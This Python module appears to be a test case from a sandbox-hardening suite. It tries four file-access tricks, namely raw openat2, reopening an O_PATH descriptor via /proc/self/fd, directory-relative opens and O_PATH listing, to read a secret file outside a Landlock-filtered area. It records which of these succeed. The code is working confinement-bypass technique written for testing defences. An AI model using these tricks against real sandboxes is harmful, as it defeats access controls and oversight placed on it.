"""Open by ways that the filter may not know.

Attacks: files outside.
How: openat2(2); an O_PATH descriptor, which Landlock grants to all, reopened through /proc/self/fd.
Source: openat2(2), open(2) on O_PATH; runc's CVE-2019-5736 reopens a descriptor through /proc/self/fd.
Breach: the content is read.
"""

import ctypes
import os
import struct

from kernel import call, went_through

GROUP, CONTROL = "files", True


def _openat2(path):
    how = ctypes.create_string_buffer(struct.pack("QQQ", os.O_RDONLY, 0, 0))
    return os.read(call("openat2", -100, path.encode(), how, 24), 100)


def _reopen(path):
    descriptor = os.open(path, os.O_PATH)
    return open(f"/proc/self/fd/{descriptor}").read()


def _relative(folder):
    descriptor = os.open(folder, os.O_PATH | os.O_DIRECTORY)
    return os.read(os.open("secret", os.O_RDONLY, dir_fd=descriptor), 100)


def attack(outside):
    return went_through(
        openat2=lambda: _openat2(outside.secret),
        reopened=lambda: _reopen(outside.secret),
        relative=lambda: _relative(outside.folder),
        listed=lambda: os.listdir(os.open(outside.folder, os.O_PATH | os.O_DIRECTORY)),
    )
